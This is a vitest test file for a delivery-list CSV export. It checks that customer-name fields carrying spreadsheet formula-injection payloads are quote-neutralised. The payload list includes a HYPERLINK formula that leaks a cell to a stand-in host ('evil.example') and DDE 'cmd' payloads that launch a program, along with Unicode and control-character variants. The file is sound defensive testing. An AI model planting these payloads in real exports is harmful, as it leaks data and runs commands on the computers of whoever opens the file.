import { afterEach, describe, expect, it, vi } from 'vitest';
import type { DeliveriesRequest } from '@src/api/types';
import type { MockDelivery } from '@src/mocks/index';
import { formulaPieces } from '../../node/export/spreadsheetCells';
import {
  catchDownloads,
  choose,
  dataset,
  expectStatus,
  matchingCodes,
  readCsv,
  renderExportMenu,
  serveReference,
} from './exportHarness';

afterEach(() => {
  vi.restoreAllMocks();
});

/** What an attacker types into a customer name, hoping an admin exports it. */
const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  // Issue 22, item 7: past the first character, and in full-width forms.
  "x;=cmd|' /C calc'!A0",
  'a\t=1+1',
  ' =1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

/** The dataset with a payload as the customer of every 150th delivery: each payload at least once. */
const poisoned: MockDelivery[] = dataset.map((delivery, index) =>
  index % 150 === 0
    ? { ...delivery, customerBusinessPartnerName: payloads[(index / 150) % payloads.length]! }
    : delivery,
);

const everything: DeliveriesRequest = {
  pageNumber: 1,
  pageSize: 25,
  quickSearch: '',
  orderBy: { key: 'code', order: 'asc' },
};

describe('formula cells in an export', () => {
  it('are neutralised with a quote mark; no cell starts a formula on any split', async () => {
    serveReference(poisoned);
    const files = catchDownloads();
    const { user } = renderExportMenu({ request: everything });
    await choose(user, 'Export all matching (CSV)');
    await expectStatus('Exported 3,000 deliveries.');

    const [, ...records] = await readCsv(files[0]!);
    expect(records.map((record) => record[0])).toEqual(matchingCodes(everything, poisoned));
    // Each payload is still there, with only quote marks added.
    const byCode = new Map(poisoned.map((delivery) => [delivery.code, delivery]));
    const changed = records.filter(
      (record) => record[4] !== byCode.get(record[0]!)!.customerBusinessPartnerName,
    );
    expect(new Set(changed.map((record) => record[4]!.replaceAll("'", '')))).toEqual(
      new Set(payloads.map((payload) => payload.replaceAll("'", ''))),
    );
    // Neither Excel in a ";" locale, nor a paste split on tabs, nor a "," reader finds a formula.
    const text = new TextDecoder().decode(await files[0]!.blob.arrayBuffer());
    expect(formulaPieces(text)).toEqual([]);
    expect(records.flat().filter((field) => /^[\t\r]/.test(field))).toEqual([]);
  });
});
